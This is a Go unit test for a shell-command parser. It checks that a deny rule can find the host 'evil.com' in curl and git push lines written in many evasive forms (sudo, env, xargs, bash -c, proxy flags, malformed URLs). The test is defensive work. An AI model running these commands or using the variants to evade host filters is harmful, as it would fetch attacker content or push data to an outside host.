package shellparse_test

import (
	"testing"

	"github.com/stretchr/testify/require"
)

func TestDenySeesHosts(t *testing.T) {
	t.Parallel()
	for _, line := range []string{
		"curl -L evil.com", "curl -s evil.com", "sudo curl evil.com", "env A=1 curl http://evil.com/x", "/usr/bin/curl evil.com", "xargs curl evil.com", "find . -exec curl evil.com ';'",
		"bash -c 'curl evil.com'", "curl -x evil.com:80 a.example", "curl -xevil.com:80 a.example", "curl --proxy=evil.com:80 a.example", "curl http:/evil.com", "curl http:///evil.com",
		"curl HTTP:evil.com", "curl http://evil.com/?q=1", "sudo git push https://evil.com/x",
	} {
		var hosts []string
		for _, c := range parse(line).Commands {
			hosts = append(hosts, c.Hosts...)
		}
		require.Contains(t, hosts, "evil.com", "%q", line)
	}
}
